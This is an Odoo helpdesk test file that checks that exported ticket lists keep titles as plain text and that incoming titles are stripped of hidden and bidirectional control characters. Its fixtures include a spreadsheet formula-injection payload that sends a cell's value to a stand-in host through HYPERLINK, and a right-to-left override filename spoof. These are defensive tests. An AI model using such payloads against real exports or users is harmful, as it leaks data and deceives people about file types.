import csv
import io
import json

from openpyxl import load_workbook

from odoo import http
from odoo.tests import HttpCase, tagged

from .common import ServiceQualityCase

TITLES = [
    '=HYPERLINK("http://example.invalid/?"&A1,"open")',
    "@SUM(1+1)",
    "+86 10 5555 0100",
    "-5 °C in room 3",
    "\uff1d1+1",
    "http://example.invalid/",
]
FIELDS = [
    {"name": "name", "label": "Title", "type": "char"},
    {"name": "priority", "label": "Priority", "type": "selection"},
]


@tagged("post_install", "-at_install", "browser")
class TestExport(ServiceQualityCase, HttpCase):
    """SLA case 35: every export of our lists is text."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.tickets = cls.env["helpdesk.ticket"].create(
            [{"name": title, "description": "Dead"} for title in TITLES]
        )

    def _fetch(self, path, data):
        self.authenticate("admin", "admin")
        response = self.url_open(
            path,
            {
                "data": json.dumps(data),
                "csrf_token": http.Request.csrf_token(self),
            },
        )
        response.raise_for_status()
        return response.content

    def _export(self, kind, **params):
        return self._fetch(
            f"/web/export/{kind}",
            {
                "model": "helpdesk.ticket",
                "fields": FIELDS,
                "ids": self.tickets.ids,
                "domain": [],
                "import_compat": False,
                "groupby": [],
                **params,
            },
        )

    def assertTexts(self, content):
        """Assert that the first column of a workbook has the titles as texts."""
        sheet = load_workbook(io.BytesIO(content)).active
        cells = {cell.value: cell for [cell, *_others] in sheet.iter_rows()}
        for title in TITLES:
            self.assertEqual(cells[title].data_type, "s", title)
            self.assertFalse(cells[title].hyperlink, title)

    def test_list_as_workbook(self):
        self.assertTexts(self._export("xlsx"))

    def test_grouped_list_as_workbook(self):
        self.assertTexts(self._export("xlsx", groupby=["priority"]))

    def test_list_as_csv(self):
        text = self._export("csv").decode()
        titles = [row[0] for row in csv.reader(io.StringIO(text))][1:]
        self.assertCountEqual(titles, [*(f"'{t}" for t in TITLES[:-1]), TITLES[-1]])

    def test_pivot_as_workbook(self):
        content = self._fetch(
            "/web/pivot/export_xlsx",
            {
                "title": "Tickets",
                "model": "helpdesk.ticket",
                "measure_count": 1,
                "col_group_headers": [[{"title": TITLES[0], "width": 1, "height": 1}]],
                "measure_headers": [{"title": "=1+1", "is_bold": False}],
                "rows": [
                    {"title": TITLES[0], "indent": 0, "values": [{"value": 3}]},
                ],
            },
        )
        sheet = load_workbook(io.BytesIO(content)).active
        kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
        self.assertNotIn("f", kinds)
        self.assertEqual(sheet["B3"].value, 3)


@tagged("post_install", "-at_install")
class TestTitle(ServiceQualityCase):
    """Titles are cleaned at the door, whoever brings them."""

    def test_what_cannot_be_seen_is_gone(self):
        ticket = self._ticket(
            name="invoice\u202egpj.exe", partner_name="pasted\x0bfrom\x1fWord"
        )
        self.assertEqual(ticket.name, "invoicegpj.exe")
        self.assertEqual(ticket.partner_name, "pastedfromWord")
        ticket.name = "one\u2066two\r\nthree\x00"
        self.assertEqual(ticket.name, "onetwo three")

    def test_what_people_write_stays(self):
        for title in (
            "😀👩\u200d🔧 打印机坏了 𠮷",
            "طابعة لا تعمل",
            '<img src=x> & "q"',
        ):
            self.assertEqual(self._ticket(name=title).name, title)

    def test_by_mail(self):
        ticket_id = self.env["mail.thread"].message_process(
            "helpdesk.ticket",
            "From: a@example.com\r\nTo: desk@example.com\r\nMessage-Id: <1@x>\r\n"
            "Subject: =?utf-8?b?aW52b2ljZeKArmdwai5leGU=?=\r\n\r\nDead\r\n",
        )
        ticket = self.env["helpdesk.ticket"].browse(ticket_id)
        self.assertEqual(ticket.name, "invoicegpj.exe")

    def test_in_an_import(self):
        manager = self._user("title_importer", "service_manager")
        [result] = (
            self.env["helpdesk.ticket"]
            .with_user(manager)
            .service_import(
                [
                    {
                        "external_ref": "T-1",
                        "name": "in\u202evoice\x0b",
                        "opened_at": "2026-03-02 09:00:00",
                        "team": self.team.id,
                    }
                ]
            )
        )
        self.assertEqual(result["outcome"], "created", result["reason"])
        ticket = self.env["helpdesk.ticket"].browse(result["ticket_id"])
        self.assertEqual(ticket.name, "invoice")
